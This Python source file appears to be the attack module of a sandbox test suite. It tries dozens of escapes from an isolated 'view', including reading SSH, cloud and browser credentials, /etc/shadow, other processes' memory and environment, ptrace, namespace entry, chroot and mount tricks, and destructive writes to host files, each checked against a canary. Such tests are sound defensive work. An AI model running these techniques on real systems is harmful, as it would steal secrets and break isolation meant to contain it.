# An attack is written as an attacker would write it.
# ruff: noqa: PTH101, PTH102, PTH104, PTH108, PTH109, PTH110, PTH116, PTH118, PTH120, PTH123, PTH208
# ruff: noqa: PTH211, RET503, UP031
"""What hostile tests try, each as a function. Runs inside a view, in a bare interpreter, and tells what it got hold of.

An attack that returns something has got out; one that raises or returns nothing was contained. Those of ``WRITES`` are
judged by what the host finds afterwards. ``aim`` is the JSON that the host hands in: paths, ports, ids.
"""

import ctypes
import json
import os
import socket
import struct
import sys
import time

C = ctypes.CDLL(None, use_errno=True)
SECRET = "canary-" + "7f3a91"


def found(text):
    return SECRET if SECRET in (text if isinstance(text, str) else text.decode("utf-8", "replace")) else None


def slurp(path):
    with open(path, "rb") as stream:
        return stream.read(1 << 20)


# --- Reading what is the user's ---


def reader(name):
    return lambda aim: found(slurp(os.path.join(aim["home"], name)))


READS = (
    ".ssh/id_ed25519", ".aws/credentials", ".config/gcloud/credentials.db", ".netrc", ".npmrc", ".docker/config.json",
    ".gnupg/secring.gpg", ".git-credentials", ".mozilla/firefox/logins.json", ".bash_history",
    ".cargo/credentials.toml",
    ".cargo/config.toml", ".config/gh/hosts.yml", ".pypirc", ".kube/config", ".cache/huggingface/token",
    ".local/share/keyrings/login.keyring", "other-project/settings.py", ".local/share/aion-r/runs/1/run.json",
)  # fmt: skip


def read_by_link(aim):
    os.symlink(os.path.join(aim["home"], ".ssh/id_ed25519"), "link-to-key")
    return found(slurp("link-to-key"))


def read_by_hard_link(aim):
    os.link(os.path.join(aim["home"], ".ssh/id_ed25519"), "hard-link-to-key")
    return found(slurp("hard-link-to-key"))


def read_by_dots(aim):
    return found(slurp(os.path.relpath(os.path.join(aim["home"], ".netrc"))))


def read_by_proc_root(aim):
    for pid in ("self", "1", str(os.getppid())):
        try:
            return found(slurp("/proc/%s/root%s/.netrc" % (pid, aim["home"])))
        except OSError:
            continue


def read_by_proc_cwd(aim):
    return found(slurp("/proc/%d/cwd/.netrc" % aim["victim"]))


def read_by_folder_descriptor(aim):
    fd = os.open(".", os.O_RDONLY)
    for _ in range(40):
        fd = os.open("..", os.O_RDONLY, dir_fd=fd)
    inner = os.open(aim["home"].lstrip("/") + "/.netrc", os.O_RDONLY, dir_fd=fd)
    return found(os.read(inner, 100))


def read_by_chroot(aim):
    os.mkdir("jail")
    os.chroot("jail")
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return found(slurp(aim["home"] + "/.netrc"))


def read_by_handle(aim):
    # open_by_handle_at needs a capability; with it every inode of the file system is open.
    handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, 2) + bytes(120))
    fd = C.open_by_handle_at(os.open(".", os.O_RDONLY), handle, os.O_RDONLY)
    return "opened" if fd >= 0 else None


def search_home(aim):
    for parent, _, files in os.walk(os.path.dirname(aim["home"])):
        if parent.startswith(os.getcwd()):
            continue
        for name in files:
            try:
                if found(slurp(os.path.join(parent, name))):
                    return os.path.join(parent, name)
            except OSError:
                continue


def read_other_view(aim):
    return found(slurp(aim["other_view"]))


def read_disk(aim):
    for name in os.listdir("/sys/class/block"):
        try:
            if slurp_some("/dev/" + name):
                return name
        except OSError:
            continue


def make_disk_node(aim):
    for name in os.listdir("/sys/class/block"):
        major, minor = slurp("/sys/class/block/%s/dev" % name).decode().split(":")
        os.mknod("disk-" + name, 0o60600, os.makedev(int(major), int(minor)))
        if slurp_some("disk-" + name):
            return name


def slurp_some(path):
    with open(path, "rb") as stream:
        return stream.read(16)


def read_shadow(aim):
    return "read" if slurp("/etc/shadow") else None


def read_variables(aim):
    return next((name for name, value in os.environ.items() if SECRET in value), None)


def read_dotenv(aim):
    return found(slurp(".env"))


def read_original_dotenv(aim):
    return found(slurp(os.path.join(aim["project"], ".env")))


def use_agent(aim):
    return os.environ.get("SSH_AUTH_SOCK")


# --- Other processes ---


def environ_of_others(aim):
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                if found(slurp("/proc/%s/environ" % name)):
                    return name
            except OSError:
                continue


def command_lines_of_others(aim):
    for name in os.listdir("/proc"):
        try:
            if name.isdigit() and aim["marker"].encode() in slurp("/proc/%s/cmdline" % name):
                return name
        except OSError:
            continue


def memory_of_others(aim):
    with open("/proc/%d/maps" % aim["victim"]) as maps:
        start = int(maps.readline().split("-")[0], 16)
    with open("/proc/%d/mem" % aim["victim"], "rb") as memory:
        memory.seek(start)
        return memory.read(4) and "read"


def descriptors_of_others(aim):
    return os.listdir("/proc/%d/fd" % aim["victim"]) and "listed"


def trace_others(aim):
    if C.ptrace(16, aim["victim"], None, None) == 0:  # PTRACE_ATTACH
        os.waitpid(aim["victim"], 0x40000000)
        C.ptrace(17, aim["victim"], None, None)
        return "attached"


def peek_by_vm_readv(aim):
    buffer = ctypes.create_string_buffer(8)
    local = struct.pack("QQ", ctypes.addressof(buffer), 8)
    with open("/proc/%d/maps" % aim["victim"]) as maps:
        remote = struct.pack("QQ", int(maps.readline().split("-")[0], 16), 8)
    return "read" if C.process_vm_readv(aim["victim"], local, 1, remote, 1, 0) > 0 else None


def steal_descriptor(aim):
    fd = C.syscall(434, aim["victim"], 0)  # pidfd_open
    return "stolen" if fd >= 0 and C.syscall(438, fd, 1, 0) >= 0 else None  # pidfd_getfd


def signal_others(aim):
    os.kill(aim["victim"], 0)
    return "reached"


def renice_others(aim):
    os.setpriority(os.PRIO_PROCESS, aim["victim"], 19)
    return "reniced"


def limit_others(aim):
    import resource

    resource.prlimit(aim["victim"], resource.RLIMIT_NOFILE, (512, 512))
    return "limited"


def pin_others(aim):
    os.sched_setaffinity(aim["victim"], {0})
    return "pinned"


def enter_namespaces_of_others(aim):
    for kind in ("mnt", "pid", "net", "user"):
        for pid in (1, aim["victim"]):
            try:
                fd = os.open("/proc/%d/ns/%s" % (pid, kind), os.O_RDONLY)
            except OSError:
                continue
            mine = os.stat("/proc/self/ns/" + kind).st_ino
            if os.fstat(fd).st_ino != mine and C.setns(fd, 0) == 0:
                return kind


# --- The network ---


def tcp4(aim):
    socket.create_connection(("127.0.0.1", aim["tcp4"]), 2).close()
    return "connected"


def tcp6(aim):
    socket.create_connection(("::1", aim["tcp6"]), 2).close()
    return "connected"


def tcp_to_own_address(aim):
    socket.create_connection((aim["address"], aim["tcp4"]), 2).close()
    return "connected"


def tcp_fast_open(aim):
    with socket.socket() as one:
        one.settimeout(2)
        one.sendto(b"x", 0x20000000, ("127.0.0.1", aim["tcp4"]))
        return "sent"


def multipath_tcp(aim):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as one:
        one.settimeout(2)
        one.connect(("127.0.0.1", aim["tcp4"]))
        return "connected"


def udp4(aim):
    _talk(socket.AF_INET, ("127.0.0.1", aim["udp4"]))
    return "answered"


def udp6(aim):
    _talk(socket.AF_INET6, ("::1", aim["udp6"]))
    return "answered"


def dns(aim):
    query = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\6canary\4test\0\0\1\0\1"
    _talk(socket.AF_INET, ("127.0.0.1", aim["udp4"]), query)
    return "resolved"


def _talk(family, address, data=b"hello"):
    with socket.socket(family, socket.SOCK_DGRAM) as one:
        one.settimeout(1)
        one.sendto(data, address)
        one.recvfrom(100)


def unix_socket(aim):
    return _dial(aim["unix"])


def unix_socket_outside(aim):
    return _dial(aim["unix_outside"])


def abstract_socket(aim):
    return _dial("\0" + aim["abstract"])


def unix_socket_in_project(aim):
    return _dial(os.path.join(aim["project"], "agent.sock"))


def _dial(address):
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(2)
        one.connect(address)
        return "connected"


def raw_packets(aim):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3) as one:
        for _, name in socket.if_nameindex():
            if name != "lo":
                one.bind((name, 0))
                return name


def ping(aim):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) as one:
        one.settimeout(1)
        one.sendto(b"\x08\0\xf7\xff\0\0\0\0", (aim["address"], 0))
        one.recv(100)
        return "answered"


def interfaces_by_netlink(aim):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as one:
        one.sendall(struct.pack("IHHIIBxHiII", 32, 18, 0x301, 1, 0, 0, 0, 0, 0, 0))
        one.recv(1 << 16)
    return next((name for _, name in socket.if_nameindex() if name not in ("lo", "tunl0", "sit0")), None)


def vsock(aim):
    with socket.socket(40, socket.SOCK_STREAM) as one:
        one.settimeout(1)
        one.connect((1, aim["vsock"]))
        return "connected"


# --- The kernel ---


def undo_mounts(aim):
    for place in (aim["home"], "/tmp", "/run", "/dev", aim["project"]):
        while C.umount2(place.encode(), 2) == 0:
            pass
    return found(slurp(os.path.join(aim["home"], ".netrc")))


def undo_mounts_as_inner_root(aim):
    C.unshare(0x10020000)
    return undo_mounts(aim)


def remount_writable(aim):
    return "remounted" if C.mount(b"none", b"/", None, 32 | 4096, None) == 0 else None


def mount_system_files(aim):
    os.mkdir("mnt")
    return "mounted" if C.mount(b"tmpfs", b"mnt", b"tmpfs", 0, None) == 0 else None


def call(number, *args):
    return lambda aim: "allowed" if C.syscall(number, *args) >= 0 else None


X86 = os.uname().machine == "x86_64"
load_bpf = call(321 if X86 else 280, 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 8, 1) + bytes(104)), 120)
perf_events = call(
    298 if X86 else 241, ctypes.create_string_buffer(struct.pack("II", 1, 112) + bytes(104)), 0, -1, -1, 0
)
user_faults = call(323 if X86 else 282, 1)
io_uring = call(425, 2, ctypes.create_string_buffer(120))


def read_keyring(aim):
    number = 250 if X86 else 219
    key = C.syscall(number, 10, -3, b"user", b"aion-canary", 0)  # KEYCTL_SEARCH in the session keyring
    return "found" if key >= 0 else None


def gain_by_setuid(aim):
    if os.geteuid() == 0:
        return None
    os.system("sudo -n true 2>/dev/null && touch escaped-by-sudo")
    return "root" if os.path.exists("escaped-by-sudo") else None


def all_capabilities(aim):
    for line in slurp("/proc/self/status").decode().splitlines():
        if line.startswith("CapEff") and int(line.split()[1], 16) & (1 << 21 | 1 << 19 | 1 << 12 | 1 << 2):
            return line


def may_gain_privileges(aim):
    return None if b"NoNewPrivs:\t1" in slurp("/proc/self/status") else "yes"


# --- Writing; the host looks ---


def write_to(aim, name):
    with open(aim["targets"][name], "a") as stream:
        stream.write("ruined")


def plain_write(name):
    return lambda aim: write_to(aim, name)


def write_by_link(aim):
    os.symlink(aim["targets"]["write_by_link"], "door")
    with open("door", "a") as stream:
        stream.write("ruined")


def write_by_hard_link(aim):
    os.link(aim["targets"]["write_by_hard_link"], "hard-door")
    with open("hard-door", "a") as stream:
        stream.write("ruined")


def write_by_rename(aim):
    with open("mine", "w") as stream:
        stream.write("ruined")
    os.rename("mine", aim["targets"]["write_by_rename"])


def write_by_bind_mount(aim):
    C.unshare(0x10020000)
    os.mkdir("bound")
    C.mount(os.path.dirname(aim["targets"]["write_by_bind_mount"]).encode(), b"bound", None, 4096, None)
    with open("bound/write_by_bind_mount", "a") as stream:
        stream.write("ruined")


def write_by_proc(aim):
    with open("/proc/%d/root%s" % (aim["victim"], aim["targets"]["write_by_proc"]), "a") as stream:
        stream.write("ruined")


def truncate(aim):
    os.truncate(aim["targets"]["truncate"], 0)


def delete(aim):
    os.unlink(aim["targets"]["delete"])


def change_mode(aim):
    os.chmod(aim["targets"]["change_mode"], 0o777)


def change_times(aim):
    os.utime(aim["targets"]["change_times"], (1, 1))


def change_attribute(aim):
    os.setxattr(aim["targets"]["change_attribute"], "user.canary", b"x")


PLAIN_WRITES = (
    "home", "shell_start", "cargo_cache", "go_cache", "npm_cache", "cargo_program", "temporary", "sibling",
    "original_test",
    "original_conftest", "original_manifest", "git_hook", "aion_home", "other_view",
)  # fmt: skip
WRITES = {"write_" + name: plain_write("write_" + name) for name in PLAIN_WRITES} | {
    one.__name__: one
    for one in (
        write_by_link, write_by_hard_link, write_by_rename, write_by_bind_mount, write_by_proc, truncate, delete,
        change_mode, change_times, change_attribute,
    )
}  # fmt: skip
OTHERS = {"read_" + name.replace("/", "_").replace(".", "").replace("-", "_"): reader(name) for name in READS} | {
    one.__name__: one
    for one in (
        read_by_link, read_by_hard_link, read_by_dots, read_by_proc_root, read_by_proc_cwd, read_by_folder_descriptor,
        read_by_chroot, read_by_handle, search_home, read_other_view, read_disk, make_disk_node, read_shadow,
        read_variables, read_dotenv, read_original_dotenv, use_agent, environ_of_others, command_lines_of_others,
        memory_of_others, descriptors_of_others, trace_others, peek_by_vm_readv, steal_descriptor, signal_others,
        renice_others, limit_others, pin_others, enter_namespaces_of_others, tcp4, tcp6, tcp_to_own_address,
        tcp_fast_open, multipath_tcp, udp4, udp6, dns, unix_socket, unix_socket_outside, abstract_socket,
        unix_socket_in_project, raw_packets, ping, interfaces_by_netlink, vsock, undo_mounts, undo_mounts_as_inner_root,
        remount_writable, mount_system_files, read_keyring, gain_by_setuid, all_capabilities, may_gain_privileges,
    )
}  # fmt: skip
OTHERS |= {"load_bpf": load_bpf, "perf_events": perf_events, "user_faults": user_faults, "io_uring": io_uring}
ATTACKS = {**WRITES, **OTHERS}


def attempt(name, aim):
    """Run one attack in a process of its own, ten seconds at most; returns what it got."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read)
        try:
            got = ATTACKS[name](aim)
        except BaseException as error:  # noqa: BLE001 - whatever stopped it
            os.write(write, ("contained: %r" % error).encode()[:300])
        else:
            os.write(write, ("GOT %s" % got if got else "contained").encode()[:300])
        os._exit(0)
    os.close(write)
    end = time.monotonic() + 10
    while time.monotonic() < end and os.waitpid(pid, os.WNOHANG) == (0, 0):
        time.sleep(0.002)
    os.set_blocking(read, False)
    try:
        return os.read(read, 400).decode("utf-8", "replace")
    except BlockingIOError:
        return "contained: it hung"


if __name__ == "__main__":
    with open(sys.argv[1]) as stream:
        target = json.load(stream)
    with open(sys.argv[2], "w") as stream:
        json.dump({name: attempt(name, target) for name in ATTACKS if name not in target["skip"]}, stream)
